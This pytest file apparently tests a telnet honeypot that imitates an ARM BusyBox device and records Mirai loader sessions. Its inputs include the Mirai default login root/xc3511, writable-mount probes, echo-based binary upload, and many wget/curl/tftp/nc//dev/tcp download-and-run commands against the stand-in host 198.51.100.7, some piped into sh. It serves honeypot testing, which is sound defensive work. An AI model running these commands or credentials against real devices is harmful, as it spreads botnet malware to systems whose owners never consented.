"""Telnet, as conversations: every step of Mirai's loader and the variants of those that followed it."""

from __future__ import annotations

import pytest

from eudaemon.protocols._base import Claim, HalfClosed
from eudaemon.protocols._seat import WAITING_BYTES_MAX
from eudaemon.protocols._terminal import HISTORY_LINES_MAX
from eudaemon.protocols.telnet import Telnet
from eudaemon.protocols.telnet.iac import COMMANDS_MAX, SUBNEGOTIATION_BYTES_MAX
from eudaemon.protocols.telnet.room import TRIES_MAX
from eudaemon.testing.script import Table, play, visit
from eudaemon.wire import Purse
from eudaemon.world.host import Host
from eudaemon.world.memory import Memory
from eudaemon.world.seed import Seed
from eudaemon.world.shell.limits import LINE_BYTES_MAX

HOST = Host.from_seed(Seed(b"test"), persona="recorder")
BARE = Host.from_seed(Seed(b"test"), persona="recorder", downloads=False)
SPLITS = pytest.mark.parametrize("split", [0, 1], ids=["whole", "byte by byte"])

REFUSED = next(word for word in ("wrong", "wrong again", "never", "no") if not HOST.accepts(b"admin", word.encode()))

OPENING = r"< \xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03\r\n"
GREETING = rf"""
    {OPENING}
    < {HOST.name} login: """
LOGIN = rf"""{GREETING}
    > root\r\n
    < root\r\nPassword: 
    > xc3511\r\n
    < \r\n\r\n\r\n{HOST.busybox_line} built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n
    < PROMPT
    ! login.tried user='root' password='xc3511' accepted=True
"""  # noqa: W291


def told(script: str, split: int = 0, host: Host = HOST) -> Table:
    """Play a script in which PROMPT stands for the host's prompt."""
    return play(Telnet, script.replace("PROMPT", host.prompt.decode()), split=split, given=visit(host=host))


def at_shell(host: Host = HOST, bytes_max: int = 32 << 20) -> Table:
    table = Table(Telnet(visit(host=host, purse=Purse(bytes_max)))).open()
    table.say(b"root\r\nxc3511\r\n")
    assert table.sent.endswith(host.prompt)
    return table


def shown(table: Table, line: bytes, split: int = 0) -> bytes:
    """Type a line; return what came between its echo and the next prompt."""
    heard = table.say(line + b"\r\n", split)
    prompt = table.room.visit.host.prompt
    assert heard.startswith(line + b"\r\n")
    assert heard.endswith(prompt)
    return heard[len(line) + 2 : -len(prompt)]


# --- login -----------------------------------------------------------------------------------------


@SPLITS
def test_login(split: int) -> None:
    told(LOGIN, split)


@SPLITS
def test_the_loader_negotiates_before_it_logs_in(split: int) -> None:
    """The loader answers each DO and WILL; the window size with WILL NAWS and 80x24. None of it is typed text."""
    told(
        rf"""{GREETING}
        > \xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfd\x01\xff\xfd\x03
        > root
        < root
        ~ 1
        > \r\n
        < \r\nPassword: 
        > xc3511
        ~ 1
        > \r\n
        *
        ! login.tried user='root' password='xc3511' accepted=True
        """,  # noqa: W291
        split,
    )


@pytest.mark.parametrize("end", [b"\r\n", b"\r\0", b"\r", b"\n"])
@SPLITS
def test_any_line_end_is_one(end: bytes, split: int) -> None:
    table = Table(Telnet(visit(host=HOST))).open()
    table.say(b"root" + end, split)
    assert table.sent.endswith(b"root\r\nPassword: ")
    table.say(b"xc3511" + end, split)
    table.say(b"echo a" + end + b"echo b" + end, split)
    prompt = HOST.prompt
    assert table.sent.endswith(prompt + b"echo a\r\na\r\n" + prompt + b"echo b\r\nb\r\n" + prompt)


@SPLITS
def test_wrong_passwords_end_it(split: int) -> None:
    name = HOST.name
    script = GREETING
    for number in range(TRIES_MAX):
        script += rf"""
        > admin\r\n{REFUSED}\r\n
        < admin\r\nPassword: \r\nLogin incorrect\r\n""" + (
            f"\n        < {name} login: " if number < TRIES_MAX - 1 else ""
        )
        script += f"\n        ! login.tried user='admin' password='{REFUSED}' accepted=False"
    told(script + "\n        / over", split)


@SPLITS
def test_the_password_is_not_echoed_and_can_be_corrected(split: int) -> None:
    told(
        rf"""{GREETING}
        > rooo\x7f\x08ot\r\n
        < rooo\x08 \x08\x08 \x08ot\r\nPassword: 
        > nonsense\x15xc351\x7f11\r\n
        *
        ! login.tried user='root' password='xc3511'
        """,  # noqa: W291
        split,
    )


@SPLITS
def test_an_empty_name_asks_again_and_ctrl_d_leaves(split: int) -> None:
    told(
        rf"""{GREETING}
        > \r\n
        < \r\n{HOST.name} login: 
        > \x04
        / over
        """,  # noqa: W291
        split,
    )


# --- the loader's dialogue ---------------------------------------------------------------------------


@SPLITS
def test_the_three_lines_and_the_token(split: int) -> None:
    told(
        LOGIN
        + rf"""
        > enable\r\nshell\r\nsh\r\n
        < enable\r\n-sh: enable: not found\r\nPROMPTshell\r\n-sh: shell: not found\r\nPROMPTsh\r\n
        < \r\n\r\n{HOST.busybox_line} built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n
        < PROMPT
        > /bin/busybox ECCHI\r\n
        < /bin/busybox ECCHI\r\nECCHI: applet not found\r\nPROMPT
        ! command.entered line='/bin/busybox ECCHI' unknown=('ECCHI',)
        > /bin/busybox FBOT\r\n
        < /bin/busybox FBOT\r\nFBOT: applet not found\r\nPROMPT
        """,
        split,
    )


def test_the_process_list_names_no_rival() -> None:
    rows = shown(at_shell(), b"/bin/busybox ps; /bin/busybox ECCHI").split(b"\r\n")
    assert rows[0].split() == [b"PID", b"USER", b"VSZ", b"STAT", b"COMMAND"]
    assert rows[-2] == b"ECCHI: applet not found"
    names = [row.split()[-1] for row in rows[1:-2]]
    assert names.count(b"init") == 1
    assert not any(name.isdigit() for name in names)


def test_what_is_mounted_rw_can_be_written() -> None:
    table = at_shell()
    mounts = shown(table, b"/bin/busybox cat /proc/mounts").split(b"\r\n")[:-1]
    tried = [row.split(b" ")[1] for row in mounts if b"rw" in row.split(b" ")[3]]
    assert {b"/tmp", b"/var/run", b"/dev/shm"} <= set(tried)
    answered = {}
    for path in [*tried, b"/dev"]:
        line = b"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69%s' > %s/.nippon; /bin/busybox cat %s/.nippon; "
        line += b"/bin/busybox rm %s/.nippon"
        answered[path] = shown(table, line % ((path,) * 4))
    refused = {path for path, answer in answered.items() if answer != b"kami" + path + b"\r\n"}
    assert refused <= {b"/proc", b"/sys", b"/dev/pts", b"/"}
    assert answered[b"/dev"] == b"kami/dev\r\n"
    table.end()
    assert table.kept == []  # that it could write is all that the loader wanted to know


def test_the_elf_header_names_the_machine() -> None:
    table = at_shell()
    header = shown(table, b"/bin/busybox cat /bin/echo").replace(b"\r\n", b"\n")
    assert header == HOST.busybox
    assert header[:7] == b"\x7fELF\x01\x01\x01"
    assert header[18:20] == b"\x28\0"
    assert b"ARMv7" in shown(table, b"cat /proc/cpuinfo; /bin/busybox ECCHI")


@pytest.mark.parametrize("line", [
    b"dd bs=20 count=1 if=/proc/self/exe 2>/dev/null || cat /proc/self/exe", b"head -c 20 /bin/echo",
    b"/bin/busybox hexdump -e '16/1 \"%c\"' -n 20 /bin/busybox", b"hexdump -v -e '/1 \"%c\"' -n 20 /bin/ls",
    b"cp /bin/echo /tmp/.s; (dd bs=20 count=1 if=/tmp/.s 2>/dev/null || cat /tmp/.s)",
])  # fmt: skip
def test_every_way_to_read_a_binarys_head(line: bytes) -> None:
    machine = shown(at_shell(), b"head -c 20 /bin/busybox")
    assert machine.startswith(b"\x7fELF")
    assert shown(at_shell(), line) == machine


@SPLITS
def test_without_downloaders_the_loader_uploads_by_echo(split: int) -> None:
    table = told(
        LOGIN
        + r"""
        > cd /tmp/\r\n
        < cd /tmp/\r\nPROMPT
        > /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n
        < /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n
        < ECCHI: applet not found\r\nPROMPT
        > /bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI\r\n
        < /bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI\r\n
        < wget: applet not found\r\ntftp: applet not found\r\nECCHI: applet not found\r\nPROMPT
        > /bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; /bin/busybox ECCHI\r\n
        < /bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; /bin/busybox ECCHI\r\n
        < ECCHI: applet not found\r\nPROMPT
        > echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x00\\xff' > upnp; /bin/busybox ECCHI\r\n
        < echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x00\\xff' > upnp; /bin/busybox ECCHI\r\n
        < ECCHI: applet not found\r\nPROMPT
        > echo -ne '\\x0a\\x0d\\x5c\\x27' >> upnp; /bin/busybox ECCHI\r\n
        < echo -ne '\\x0a\\x0d\\x5c\\x27' >> upnp; /bin/busybox ECCHI\r\nECCHI: applet not found\r\nPROMPT
        > ./upnp; ./dvrHelper telnet.arm7; /bin/busybox IHCCE\r\n
        < ./upnp; ./dvrHelper telnet.arm7; /bin/busybox IHCCE\r\n
        < listening tun0\r\nlistening tun0\r\nIHCCE: applet not found\r\nPROMPT
        ^ upload /tmp/upnp 7f454c46010100ff0a0d5c27
        > rm -rf upnp; > dvrHelper; /bin/busybox ECCHI\r\n
        < rm -rf upnp; > dvrHelper; /bin/busybox ECCHI\r\nECCHI: applet not found\r\nPROMPT
        """,
        split,
        BARE,
    )
    table.end()
    assert len(table.kept) == 1


@SPLITS
def test_wget_to_standard_output(split: int) -> None:
    table = told(
        LOGIN
        + r"""
        > cd /tmp; wget http://198.51.100.7:80/bins/mirai.arm7 -O - > dvrHelper; chmod 777 dvrHelper; busybox ECCHI\r\n
        *
        ! command.entered
        ? http://198.51.100.7:80/bins/mirai.arm7
        = ok 7f454c46010101
        *
        > ./dvrHelper telnet.arm7; /bin/busybox IHCCE\r\n
        < ./dvrHelper telnet.arm7; /bin/busybox IHCCE\r\nlistening tun0\r\nIHCCE: applet not found\r\nPROMPT
        """,
        split,
    )
    table.end()
    assert table.kept == []  # whoever fetched it has kept it


@pytest.mark.parametrize(
    ("line", "url"),
    [
        (b"/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 198.51.100.7", "tftp://198.51.100.7/mirai.arm7"),
        (b"tftp 198.51.100.7 -c get mirai.arm7 dvrHelper", "tftp://198.51.100.7/mirai.arm7"),
        (b"ftpget -v -u anonymous -p a -P 21 198.51.100.7 dvrHelper x", "ftp://anonymous:a@198.51.100.7:21/x"),
        (b"nc 198.51.100.7 8080 > dvrHelper", "tcp://198.51.100.7:8080/"),
        (b"cat < /dev/tcp/198.51.100.7/8080 > dvrHelper", "tcp://198.51.100.7:8080/"),
        (b"curl -O http://198.51.100.7/dvrHelper", "http://198.51.100.7/dvrHelper"),
        (b"curl -s -L -k http://198.51.100.7/x -o dvrHelper", "http://198.51.100.7/x"),
        (b"wget -q http://198.51.100.7/dvrHelper", "http://198.51.100.7/dvrHelper"),
        (b"wget${IFS}http://198.51.100.7/dvrHelper", "http://198.51.100.7/dvrHelper"),
        (
            b"(cd /tmp; wget http://198.51.100.7/x -O- || curl http://198.51.100.7/y)|cat > dvrHelper",
            "http://198.51.100.7/x",
        ),
        (b"`echo wget` http://198.51.100.7/dvrHelper", "http://198.51.100.7/dvrHelper"),
        (b"/bin/busybox wget http://198.51.100.7/i -O - > dvrHelper", "http://198.51.100.7/i"),
    ],
)
def test_every_way_to_download(line: bytes, url: str) -> None:
    table = at_shell()
    table.say(b"cd /tmp\r\n")
    table.say(line + b"; chmod 777 /tmp/dvrHelper; /tmp/dvrHelper; /bin/busybox IHCCE\r\n")
    assert [wish.download.url for wish in table.wishes] == [url]
    table.answer("ok", b"\x7fELF\x01\x01\x01")
    assert b"listening tun0\r\nIHCCE: applet not found\r\n" + HOST.prompt in table.sent


@pytest.mark.parametrize("line", [b"wget http://198.51.100.7/x -O- | sh", b"curl http://198.51.100.7/x|sh -s a",
                                  b"wget http://198.51.100.7/x; sh x",
                                  b"wget -O x http://198.51.100.7/x; chmod +x x; ./x",
                                  b"sh -c \"$(curl http://198.51.100.7/x)\"",
                                  b"cd /tmp; wget http://198.51.100.7/x; . ./x"])  # fmt: skip
def test_a_script_that_was_fetched_runs_and_fetches(line: bytes) -> None:
    table = at_shell()
    table.say(line + b"\r\n")
    table.answer(
        "ok",
        b"#!/bin/sh\ncd /tmp\nfor a in mips arm7; do\n wget http://198.51.100.7/b.$a\n chmod 777 b.$a; ./b.$a\ndone\n",
    )
    assert table.wishes[0].download.url == "http://198.51.100.7/b.mips"
    table.answer("ok", b"\x7fELF\x01\x02\x01" + bytes(12) + b"\x08")
    assert table.wishes[0].download.url == "http://198.51.100.7/b.arm7"
    table.answer("ok", b"\x7fELF\x01\x01\x01" + bytes(11) + b"\x28\0")
    assert b"b.mips: line 1: syntax error" in table.sent  # another machine's program does not run here
    assert table.sent.count(b"listening tun0") == 1
    assert table.sent.endswith(HOST.prompt)


@pytest.mark.parametrize("outcome", ["failed", "refused", "missing"])
def test_a_download_that_fails_looks_like_one(outcome: str) -> None:
    heard = {}
    for command in (
        b"wget http://198.51.100.7/x",
        b"tftp -g -r x 198.51.100.7",
        b"ftpget 198.51.100.7 x x",
        b"curl -f http://198.51.100.7/x",
    ):
        table = at_shell()
        table.say(command + b"\r\n")
        before = len(table.sent)
        table.answer(outcome)
        heard[command[:4]] = table.sent[before:].split(b"\r\n")[0]
    gone = outcome == "missing"
    assert heard[b"wget"] == b"wget: " + (
        b"server returned error: HTTP/1.1 404 Not Found"
        if gone
        else b"can't connect to remote host (198.51.100.7): Connection refused"
    )
    assert heard[b"tftp"] == (b"tftp: server error: (1) File not found" if gone else b"tftp: timeout")
    assert heard[b"ftpg"].startswith(b"ftpget: cmd RETR" if gone else b"ftpget: can't connect")
    assert heard[b"curl"].startswith(b"curl: (22)" if gone else b"curl: (7)")


@pytest.mark.parametrize(
    ("line", "start"),
    [
        (b"while read i; do echo $i; done < /bin/echo", b"\x7fELF"),
        (b"dd bs=52 count=1 if=/bin/ls", b"\x7fELF"),
        (b"cat /proc/self/exe", b"\x7fELF"),
        (b"head -c 20 /bin/echo", b"\x7fELF"),
        (b"head -n 1 /bin/busybox", b"\x7fELF"),
        (b"hexdump -C /bin/echo | head -n 1", b"00000000  7f 45 4c 46 01 01 01 00"),
        (b"hexdump -e '16/1 \"%c\"' -n 52 /bin/ls", b"\x7fELF\x01\x01\x01"),
        (b"printf '\\101'", b"A"),
        (b"[ -f /bin/echo ] && echo yes", b"yes"),
        (b"(echo a;echo b)|tail -n 1", b"b"),
        (b"x=`echo 1`; echo $x", b"1"),
        (b"echo${IFS}y", b"y"),
        (b"cat <<E | tr a b\r\na\r\nE", b"> a\r\n> E\r\nb"),
        (b"cat <<< here", b"here"),
        (b"uname -m", b"armv7l"),
    ],
)  # fmt: skip
def test_variants_of_asking(line: bytes, start: bytes) -> None:
    table = at_shell()
    heard = table.say(line + b"\r\n")
    assert heard.partition(b"\r\n")[2].startswith(start)
    assert heard.endswith(HOST.prompt)


def test_the_loader_interrupts_when_it_waited_too_long() -> None:
    table = at_shell()
    table.say(b"./nothing; wget http://198.51.100.7/x\r\necho queued\r\n")
    heard = table.say(b"\x03\x1akill %1\r\nrm -rf dvrHelper upnp\r\n/bin/busybox ECCHI\r\n")
    assert b"queued" not in heard
    assert heard.endswith(b"ECCHI: applet not found\r\n" + HOST.prompt)
    table.answer("ok", b"late")
    assert table.sent.endswith(HOST.prompt)


def test_what_is_typed_during_a_download_waits_for_it() -> None:
    table = at_shell()
    table.say(b"wget http://198.51.100.7/x\r\necho after; wget http://198.51.100.7/y\r\necho last\r\n")
    assert b"after" not in table.sent
    table.answer("ok", b"x")
    assert table.sent.count(b"after\r\n") == 1
    assert b"last" not in table.sent
    table.answer("ok", b"y")
    assert table.sent.endswith(b"last\r\n" + HOST.prompt)
    assert table.room.visit.purse.bytes_taken < 4096


# --- the end -----------------------------------------------------------------------------------------


@SPLITS
def test_exit_leaves_as_many_shells_as_were_entered(split: int) -> None:
    table = at_shell()
    table.say(b"sh\r\nexit\r\n", split)
    assert not table.over
    table.say(b"\x04", split)
    assert table.over


def test_a_half_closed_session_hears_its_answers_first() -> None:
    table = at_shell()
    table.say(b"wget http://198.51.100.7/x; echo done\r\n")
    table.tell(HalfClosed(table.at_s))
    assert not table.over
    table.answer("ok", b"x")
    assert b"done\r\n" in table.sent
    assert table.over


def test_what_was_written_is_kept_at_the_end() -> None:
    table = at_shell()
    table.say(b"cd /tmp; echo -ne '\\x00\\x01' > a; echo -ne '\\x00\\x01' > b; echo -e 'c\\x02' > c\r\n")
    assert table.kept == []
    table.end()
    assert [(keep.name, keep.data, keep.origin) for keep in table.kept] == [
        ("/tmp/a", b"\0\1", "upload"), ("/tmp/c", b"c\2\n", "upload"),
    ]  # fmt: skip


# --- limits ------------------------------------------------------------------------------------------


def test_a_storm_of_commands() -> None:
    table = at_shell()
    table.say(b"\xff\xf1" * (COMMANDS_MAX - 1))
    assert not table.fault
    table.say(b"\xff\xf1" * 2)
    assert table.fault == f"more than {COMMANDS_MAX} telnet commands"


@SPLITS
def test_a_subnegotiation_without_an_end(split: int) -> None:
    table = at_shell()
    table.say(b"\xff\xfa" + b"x" * (SUBNEGOTIATION_BYTES_MAX - 1), split)
    assert not table.fault
    table.say(b"xx", split)
    assert table.fault == f"telnet subnegotiation over {SUBNEGOTIATION_BYTES_MAX} bytes"


def test_a_line_without_an_end() -> None:
    table = at_shell()
    table.say(b"x" * LINE_BYTES_MAX)
    assert not table.fault
    assert table.room.visit.purse.bytes_taken == LINE_BYTES_MAX
    table.say(b"x")
    assert table.fault == f"line over {LINE_BYTES_MAX} bytes"


def test_too_much_typed_during_a_download() -> None:
    table = at_shell()
    table.say(b"wget http://198.51.100.7/x\r")
    table.say(b"x" * WAITING_BYTES_MAX)
    assert not table.fault
    table.say(b"x")
    assert "typed while a command runs" in table.fault


def test_a_full_purse_is_a_full_disk() -> None:
    table = at_shell(bytes_max=20_000)
    answers = [shown(table, b"head -c 4096 /dev/zero >> /tmp/f") for _ in range(6)]
    assert answers[0] == b""
    assert answers[-1] == b"head: write error: No space left on device\r\n"
    assert table.room.visit.purse.bytes_taken <= 20_000


def test_the_timing_mark_is_answered() -> None:
    table = at_shell()
    assert table.say(b"\xff\xf4\xff\xfd\x06").startswith(b"\xff\xfc\x06")


@pytest.mark.parametrize(
    ("first", "claim"),
    [
        (b"\xff\xfd\x01", Claim.YES),
        (b"\xff", Claim.YES),
        (b"\xff\x00", Claim.NO),
        (b"root\r\n", Claim.UNSURE),
        (b"enable\n", Claim.UNSURE),
        (b"GET / HTTP/1.1\r\n", Claim.NO),
        (b"\x16\x03\x01\x02\x00\x01", Claim.NO),
        (b"\x00\x00\r\n", Claim.NO),
    ],
)
def test_claims(first: bytes, claim: Claim) -> None:
    assert Telnet.claim(first) is claim


def test_reboot_hangs_up() -> None:
    table = at_shell()
    table.say(b"reboot\r\n")
    assert table.over


def test_a_new_password_is_not_shown() -> None:
    table = at_shell()
    table.say(b"passwd\r\nhidden\r\nhidden\r\necho shown\r\n")
    assert b"hidden" not in table.sent
    assert table.sent.endswith(b"changed by root\r\n" + HOST.prompt + b"echo shown\r\nshown\r\n" + HOST.prompt)


def test_a_sleep_is_waited_for_and_what_is_typed_meanwhile_follows() -> None:
    table = at_shell()
    prompt = HOST.prompt
    assert table.say(b"echo a; sleep 5; echo b\r\n") == b"echo a; sleep 5; echo b\r\na\r\n"
    assert table.say(b"echo c\r\n") == b""
    before = len(table.sent)
    table.wait(4.9)
    assert len(table.sent) == before
    table.wait(0.2)
    assert table.sent[before:] == b"b\r\n" + prompt + b"echo c\r\nc\r\n" + prompt


def test_a_sleep_can_be_interrupted() -> None:
    table = at_shell()
    table.say(b"sleep 5; echo never\r\n")
    assert table.say(b"\x03").endswith(HOST.prompt)
    table.wait(10)
    table.say(b"wget http://198.51.100.7/x; echo then\r\n")
    table.wait(10)
    assert b"never" not in table.sent.replace(b"echo never", b"")
    assert b"then\r\n" + HOST.prompt not in table.sent
    table.answer("missing")
    assert table.sent.endswith(b"then\r\n" + HOST.prompt)


def test_who_leaves_while_a_command_sleeps_is_let_go_afterwards() -> None:
    table = at_shell()
    table.say(b"sleep 5; echo b\r\n")
    table.tell(HalfClosed(table.at_s))
    assert not table.over
    table.wait(6)
    assert table.over
    assert table.sent.endswith(b"b\r\n" + HOST.prompt)


UP, DOWN = b"\x1b[A", b"\x1b[B"


@SPLITS
def test_cursor_keys_bring_lines_back(split: int) -> None:
    table = at_shell()
    for line in (b"echo one\r\n", b"echo two\r\n", b"echo two\r\n", b"\r\n"):
        table.say(line, split)
    assert table.say(UP, split) == b"echo two"
    assert table.say(UP, split) == b"\b \b" * 8 + b"echo one"
    assert table.say(UP, split) == b""  # there is nothing before it
    assert table.say(b"!\r\n", split) == b"!\r\none!\r\n" + HOST.prompt
    table.say(UP + UP + DOWN + DOWN + b"echo new\r\n", split)
    assert table.sent.endswith(b"echo new\r\nnew\r\n" + HOST.prompt)
    table.say(b"x" * 300 + b"\r\n", split)
    assert table.say(UP, split) == b"echo new"


def test_how_many_lines_are_brought_back_and_that_they_are_paid_for() -> None:
    table = at_shell()
    before = table.room.visit.purse.bytes_taken
    for number in range(HISTORY_LINES_MAX + 3):
        table.say(b": %03d\r\n" % number)
    table.say(UP * (HISTORY_LINES_MAX + 3))
    assert table.sent.endswith(b": 003")
    assert table.room.visit.purse.bytes_taken >= before + 5 * HISTORY_LINES_MAX


def test_a_password_is_not_brought_back() -> None:
    table = at_shell()
    for line in (b"passwd\r\n", b"secret\r\n", b"secret\r\n"):
        table.say(line)
    assert table.say(UP) == b"passwd"


def test_an_editor_is_left_as_it_is_left() -> None:
    table = at_shell()
    assert b"~\r\n~\r\n" in table.say(b"vi x\r\n")
    assert not table.sent.endswith(HOST.prompt)
    assert not table.say(b"ls\r\n").endswith(HOST.prompt)
    assert table.say(b"\x1b:q!\r\n").endswith(HOST.prompt)


def test_the_next_connection_finds_what_one_left() -> None:
    memory = Memory()

    def connected() -> Table:
        table = Table(Telnet(visit(host=HOST, memory=memory))).open()
        table.say(b"root\r\nxc3511\r\n")
        return table

    first = connected()
    first.say(b"echo left > /tmp/a; mkdir /tmp/d; rm -f /etc/passwd\r\n")
    first.end()
    second = connected()
    assert b"\r\nleft\r\n" in second.say(b"cat /tmp/a\r\n")
    assert second.say(b"ls -d /tmp/d\r\n").startswith(b"ls -d /tmp/d\r\n/tmp/d\r\n")
